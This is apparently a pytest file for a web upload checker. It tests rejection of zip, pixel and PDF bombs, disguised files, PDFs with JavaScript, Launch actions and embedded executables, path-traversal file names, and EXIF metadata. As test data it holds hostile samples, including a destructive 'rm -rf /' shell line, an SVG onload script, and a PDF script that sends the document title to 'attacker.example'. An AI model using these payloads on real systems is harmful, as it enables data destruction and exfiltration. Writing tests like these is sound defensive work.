"""Hostile uploads: archives and bombs, disguised types, active PDFs, metadata, path tricks.

Every case goes through :func:`tinhso.core.uploads.check_upload`, which every upload path (API,
portal, counter, supplements, field feedback) calls before anything is stored.
"""

from __future__ import annotations

import gc
import io
import os
import struct
import tarfile
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
)

from tinhso.core import uploads
from tinhso.core.errors import DomainError
from tinhso.core.uploads import check_upload, safe_filename
from tinhso.testing.factories import jpeg_bytes, minimal_pdf, packed_pdf

PDF = minimal_pdf()


def refused(name: str, data: bytes) -> str:
    with pytest.raises(DomainError) as excinfo:
        check_upload(SimpleUploadedFile(name, data))
    return excinfo.value.code


def zip_bomb() -> bytes:
    """100 MB of zeros in a ~100 KB zip (a decompression bomb), never opened by the server."""
    out = io.BytesIO()
    chunk = b"\0" * (1 << 20)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("giay-to.pdf", "w", force_zip64=True) as member,
    ):
        for _ in range(100):
            member.write(chunk)
    return out.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, idat: bytes, color_type: int = 0) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def png_header_bomb(width: int = 60_000, height: int = 60_000) -> bytes:
    """A tiny PNG that claims 3.6 billion pixels: decoding it would take gigabytes."""
    return png(width, height, zlib.compress(b"\0" * 1024))


def flat_png(width: int, height: int) -> bytes:
    """A white RGB PNG, compressed without Pillow (fast): the 39.7-megapixel one is 530 KB."""
    rows = (b"\0" + b"\xff" * 3 * width) * 64
    packer = zlib.compressobj(1)
    idat = b"".join(packer.compress(rows) for _ in range(height // 64))
    idat += packer.compress((b"\0" + b"\xff" * 3 * width) * (height % 64)) + packer.flush()
    return png(width, height, idat, color_type=2)


def test_zip_bomb_is_refused_without_being_opened():
    data = zip_bomb()
    assert len(data) < 1_000_000
    assert refused("ho-so.zip", data) == "file_type_not_allowed"
    # the same bomb renamed to look like a scan
    assert refused("giay-khai-sinh.pdf", data) == "file_type_not_allowed"


def test_other_archives_and_office_files_are_refused():
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as archive:
        info = tarfile.TarInfo("a.pdf")
        info.size = len(PDF)
        archive.addfile(info, io.BytesIO(PDF))
    assert refused("ho-so.pdf", tar.getvalue()) == "file_type_not_allowed"
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    assert refused("don.docx", docx.getvalue()) == "file_type_not_allowed"


def test_pixel_bomb_is_refused_before_decoding():
    assert refused("anh.png", png_header_bomb()) == "image_too_large"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("anh.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("don.pdf", b"<html><script>alert(1)</script></html>"),
        ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00" + b"\0" * 64),
        ("script.jpg", b"#!/bin/sh\nrm -rf /\n"),
    ],
)
def test_disguised_content_is_refused(name, data):
    assert refused(name, data) == "file_type_not_allowed"


def test_real_type_under_the_wrong_extension_is_refused():
    assert refused("anh.jpg", PDF) == "file_type_mismatch"


@pytest.mark.parametrize(
    ("snippet", "found"),
    [
        (b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "javascript"),
        (b"/AA<</O<</S/J#61vaScript/JS(x)>>>>", "javascript"),  # #xx-escaped name
        (b"/Names<</EmbeddedFiles<</Names[(a.exe)<</EF<</F 3 0 R>>>>]>>>>", "embedded_file"),
        (b"/OpenAction<</S/Launch/F(cmd.exe)>>", "launch"),
    ],
)
def test_pdfs_with_active_content_are_refused(snippet, found):
    with pytest.raises(DomainError) as excinfo:
        check_upload(SimpleUploadedFile("to-khai.pdf", minimal_pdf(catalog=snippet)))
    assert excinfo.value.code == "pdf_active_content"
    assert excinfo.value.details == {"found": found}


def test_encrypted_pdf_is_refused():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("mat-khau")
    out = io.BytesIO()
    writer.write(out)
    assert refused("to-khai.pdf", out.getvalue()) == "pdf_encrypted"


def test_clean_pdf_is_kept_byte_for_byte():
    checked = check_upload(SimpleUploadedFile("Tờ khai.pdf", PDF))
    assert checked.content.read() == PDF
    assert checked.content_type == "application/pdf"
    assert checked.original_name == "Tờ khai.pdf"


def test_image_metadata_is_stripped():
    image = Image.new("RGB", (40, 30), "red")
    exif = Image.Exif()
    exif[0x010F] = "Điện thoại của ông A"  # camera maker
    exif.get_ifd(0x8825)[2] = (17.0, 28.0, 0.0)  # GPS latitude
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif)
    assert b"Exif" in out.getvalue()
    checked = check_upload(SimpleUploadedFile("anh.jpg", out.getvalue()))
    data = checked.content.read()
    assert b"Exif" not in data
    with Image.open(io.BytesIO(data)) as cleaned:
        assert dict(cleaned.getexif()) == {}
        assert cleaned.size == (40, 30)


def test_oversized_file_is_refused_before_reading_it_all(settings):
    settings.TINHSO_MAX_UPLOAD_BYTES = 1024
    assert refused("to-khai.pdf", PDF + b"%" + b"0" * 2048) == "file_too_large"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        ("giấy\x00khai\u202esinh.pdf", "giấykhaisinh.pdf"),
        ("<script>.pdf", "_script_.pdf"),
        ("", "file"),
        ("....", "file"),
    ],
)
def test_file_names_are_sanitised(name, expected):
    assert safe_filename(name) == expected


# --- the cost of decoding images (issue 17, finding 4) ------------------------------------------
# A 154 KB PNG of 39.7 megapixels cost 2.2 s and ~300 MB, and four at once pushed a worker past
# 1 GB. Now: the size is read from the header first; a JPEG above the cap (a 48–50 MP phone
# photo) is decoded at half scale; one decode above LARGE_DECODE_PIXELS runs at a time per
# process; the pixels are held once (twice while a photo is turned upright).

RED_TEAM = (7300, 5440)  # 39.7 megapixels, just under the 40 MP cap
MEDIUM = (3000, 3000)  # above LARGE_DECODE_PIXELS: takes the process's one turn


def peak_growth_mb(work) -> float:
    """How far this process's resident memory rose above its level before ``work()`` (Linux:
    the peak is reset through /proc/self/clear_refs)."""
    clear_refs = Path("/proc/self/clear_refs")
    if not os.access(clear_refs, os.W_OK):
        pytest.skip("needs Linux's /proc/self/clear_refs to measure peak memory")

    def kilobytes(field: str) -> int:
        line = next(x for x in Path("/proc/self/status").read_text().splitlines() if field in x)
        return int(line.split()[1])

    gc.collect()
    clear_refs.write_text("5")
    before = kilobytes("VmRSS:")
    work()
    return (kilobytes("VmHWM:") - before) / 1024


def pixel_mb(size: tuple[int, int]) -> float:
    return size[0] * size[1] * 4 / 2**20  # Pillow holds RGB pixels in 4 bytes


@pytest.fixture(scope="module")
def red_team_png() -> bytes:
    return flat_png(*RED_TEAM)


@pytest.fixture(scope="module")
def medium_png() -> bytes:
    return flat_png(*MEDIUM)


@pytest.fixture(scope="module")
def phone_photo_48mp() -> bytes:
    """An ordinary 48 MP phone photo (8000 × 6000), taken upright: EXIF orientation 6."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "Điện thoại"
    out = io.BytesIO()
    Image.new("RGB", (8000, 6000), (200, 180, 150)).save(out, "JPEG", quality=90, exif=exif)
    return out.getvalue()


def test_red_team_png_is_accepted_holding_its_pixels_once(red_team_png):
    assert len(red_team_png) < 1_000_000
    result = {}
    growth = peak_growth_mb(
        lambda: result.update(checked=check_upload(SimpleUploadedFile("scan.png", red_team_png)))
    )
    assert (result["checked"].width, result["checked"].height) == RED_TEAM
    assert growth < 1.3 * pixel_mb(RED_TEAM)  # was two copies (~300 MB); now one (152 MB)


def test_four_large_images_at_once_are_decoded_one_after_another(medium_png):
    """The red team's four parallel uploads, as a gthread worker's four threads run them."""
    results = []

    def upload():
        results.append(check_upload(SimpleUploadedFile("scan.png", medium_png)))

    def four_at_once():
        threads = [threading.Thread(target=upload) for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    growth = peak_growth_mb(four_at_once)
    assert [(r.width, r.height) for r in results] == [MEDIUM] * 4
    assert growth < 2 * pixel_mb(MEDIUM)  # all four at once held four times the pixels


def test_small_images_do_not_wait_for_a_large_decode(medium_png):
    large = []
    with uploads._LARGE_DECODE:  # a large decode is running
        waiting = threading.Thread(
            target=lambda: large.append(check_upload(SimpleUploadedFile("a.png", medium_png)))
        )
        waiting.start()
        small = check_upload(SimpleUploadedFile("b.jpg", jpeg_bytes(size=(1600, 1200))))
        assert (small.width, small.height) == (1600, 1200)
        waiting.join(timeout=0.2)
        assert waiting.is_alive() and not large
    waiting.join()
    assert (large[0].width, large[0].height) == MEDIUM


def test_48mp_phone_photo_is_accepted_decoded_at_half_scale(phone_photo_48mp):
    result = {}
    growth = peak_growth_mb(
        lambda: result.update(checked=check_upload(SimpleUploadedFile("a.jpg", phone_photo_48mp)))
    )
    checked = result["checked"]
    assert (checked.width, checked.height) == (3000, 4000)  # 12 MP, turned upright
    with Image.open(checked.content) as stored:
        assert stored.size == (3000, 4000) and dict(stored.getexif()) == {}
    # decoded at full size it would hold 183 MB (and as much again to turn it upright)
    assert growth < 1.2 * 2 * pixel_mb((3000, 4000))
    # a field-feedback photo: decoded at the scale it is stored at, in one decode
    photo = check_upload(SimpleUploadedFile("a.jpg", phone_photo_48mp), max_side=2560)
    assert (photo.width, photo.height) == (1920, 2560)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A small JPEG whose header claims ``width`` × ``height``."""
    data = bytearray(jpeg_bytes(size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("anh.png", png_header_bomb(7400, 5500)),  # 40.7 MP: a PNG cannot be decoded smaller
        ("anh.jpg", jpeg_claiming(16000, 12000)),  # 192 MP: above 4 × the cap even for a JPEG
    ],
)
def test_images_above_the_caps_are_refused_from_their_header(name, data):
    assert refused(name, data) == "image_too_large"


# --- active content in PDFs (issue 17, finding 7) -----------------------------------------------
# JavaScript inside a compressed object stream passed the byte scan. Now the PDF is parsed and
# every object in it inspected (object streams included); a PDF that cannot be parsed is refused.

JS = b"<</S/JavaScript/JS(app.alert(1))>>"
LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 10 10]"


def active_content(data: bytes) -> str:
    with pytest.raises(DomainError) as excinfo:
        check_upload(SimpleUploadedFile("to-khai.pdf", data))
    assert excinfo.value.code == "pdf_active_content", excinfo.value.code
    return excinfo.value.details["found"]


@pytest.mark.parametrize(
    ("extra", "catalog", "page", "found"),
    [
        ((JS,), b"/OpenAction 4 0 R", b"", "javascript"),  # the red team's file
        ((b"<</Names[(a) 5 0 R]>>", JS), b"/Names<</JavaScript 4 0 R>>", b"", "javascript"),
        ((JS,), b"", b"/AA<</O 4 0 R>>", "javascript"),  # when the page opens
        ((LINK + b"/AA<</E 5 0 R>>>>", JS), b"", b"/Annots[4 0 R]", "javascript"),
        ((b"<</S/Launch/F(cmd.exe)>>",), b"/OpenAction 4 0 R", b"", "launch"),
        ((LINK + b"/A<</S/GoToR/F(x.pdf)/D[0/Fit]>>>>",), b"", b"/Annots[4 0 R]", "launch"),
        ((b"<</Names[(a.exe) 5 0 R]>>", b"<</Type/Filespec/F(a.exe)/EF<</F 9 0 R>>>>"),
         b"/Names<</EmbeddedFiles 4 0 R>>", b"", "embedded_file"),
        ((b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS(a.exe)>>",), b"",
         b"/Annots[4 0 R]", "embedded_file"),
    ],
    ids=["open-action", "names-tree", "page-open", "annotation", "launch", "remote-pdf",
         "embedded-files", "attachment-annotation"],
)  # fmt: skip
def test_active_content_hidden_in_a_compressed_object_stream_is_refused(
    extra, catalog, page, found
):
    data = packed_pdf(*extra, catalog=catalog, page=page)
    assert not set(uploads._pdf_names(data)) & set(uploads.PDF_ACTIVE_NAMES)  # passed the scan
    assert active_content(data) == found


def written_pdf(build) -> bytes:
    """A PDF written by pypdf (compressed streams) after ``build(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    for page in writer.pages:
        page.compress_content_streams()
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def script_in_compressed_stream(writer: PdfWriter) -> None:
    """A link whose /AA runs a script kept in a Flate-compressed stream."""
    script = DecodedStreamObject()
    script.set_data(b"app.launchURL('http://attacker.example/'+this.info.Title)")
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): writer._add_object(script.flate_encode()),
        }
    )
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
            NameObject("/AA"): DictionaryObject({NameObject("/E"): writer._add_object(action)}),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


@pytest.mark.parametrize(
    ("build", "found"),
    [
        (lambda w: w.add_open_action(JavaScript("app.alert(1)")), "javascript"),
        (lambda w: w.pages[0].add_action(PageTrigger.OPEN, JavaScript("x()")), "javascript"),
        (script_in_compressed_stream, "javascript"),
        (lambda w: w.add_attachment("giay-to.exe", b"MZ" + b"\0" * 4096), "embedded_file"),
    ],
    ids=["open-action", "page-action", "compressed-script", "attachment"],
)
def test_active_content_written_by_a_pdf_library_is_refused(build, found):
    assert active_content(written_pdf(build)) == found


@pytest.mark.parametrize(
    "data",
    [
        packed_pdf(),
        # opens at page 1, links to a web page: ordinary, not active
        minimal_pdf(LINK + b"/A<</S/URI/URI(https://dichvucong.gov.vn)>>>>",
                    catalog=b"/OpenAction[3 0 R/Fit]", page=b"/Annots[4 0 R]"),
        written_pdf(lambda w: w.add_metadata({"/Title": "Tờ khai /JavaScript"})),
    ],
    ids=["packed", "links", "written"],
)  # fmt: skip
def test_ordinary_pdfs_are_accepted_as_they_are(data):
    checked = check_upload(SimpleUploadedFile("to-khai.pdf", data))
    assert checked.content.read() == data


def test_pdf_bombs_are_refused(monkeypatch):
    bomb = packed_pdf(b"(" + b"0" * (uploads.PDF_MAX_STREAM_BYTES + 1) + b")")
    assert len(bomb) < 100_000
    assert refused("to-khai.pdf", bomb) == "pdf_too_complex"
    # many object streams: their total is bounded too; and so is the number of objects
    monkeypatch.setattr(uploads, "PDF_MAX_OBJECT_STREAM_BYTES", 1000)
    assert refused("to-khai.pdf", packed_pdf(b"(" + b"0" * 1000 + b")")) == "pdf_too_complex"
    monkeypatch.setattr(uploads, "PDF_MAX_OBJECTS", 3)
    assert refused("to-khai.pdf", minimal_pdf(b"<<>>")) == "pdf_too_complex"


def test_the_byte_scan_skips_stream_bodies_in_one_pass():
    """Compressed bodies would match names by chance; an unclosed stream is scanned."""
    data = b"a stream\nx/JS endstream b stream\r\ny endstream c stream\nz/Launch"
    assert uploads._outside_streams(data) == b"a   b   c  stream\nz/Launch"
